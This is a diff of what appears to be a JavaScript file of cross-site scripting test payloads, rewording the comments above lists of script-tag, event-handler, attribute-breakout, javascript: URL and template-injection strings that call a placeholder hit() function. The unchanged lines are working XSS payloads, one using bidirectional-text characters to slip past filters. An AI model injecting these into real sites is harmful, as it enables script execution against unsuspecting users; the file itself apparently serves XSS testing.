@@ -1,4 +1,4 @@
-/** Texts that run `hit()` where a page lets them: as markup, as an attribute, as an address, in a script, in a template. */
+/** Payloads that call `hit()` if a page treats them as markup, an attribute, an address, a script or a template. */
 
 const run = 'hit()';
 
@@ -35,7 +35,7 @@ const scripts = [
 	`\u202e<script>${run}</script>\u202c`,
 ];
 
-/** Handlers that a browser calls by itself once the element is there. */
+/** Event handlers, most of which fire without user input. */
 const handlers = [
 	`<img src=x onerror=${run}>`,
 	`<img src=x onerror="${run}">`,
@@ -91,7 +91,7 @@ const handlers = [
 	`<track onerror=${run}>`,
 ];
 
-/** Out of an attribute in either kind of quotes, or in none. */
+/** Break out of an attribute in double quotes, single quotes or none. */
 const attributes = [
 	`"><script>${run}</script>`,
 	`'><script>${run}</script>`,
@@ -171,7 +171,7 @@ const addresses = [
 	`<area href=javascript:${run} shape=default>`,
 ];
 
-/** What only a script or a template engine would run. */
+/** Run only in a script or a template engine. */
 const templates = [
 	`';${run};'`,
 	`";${run};"`,
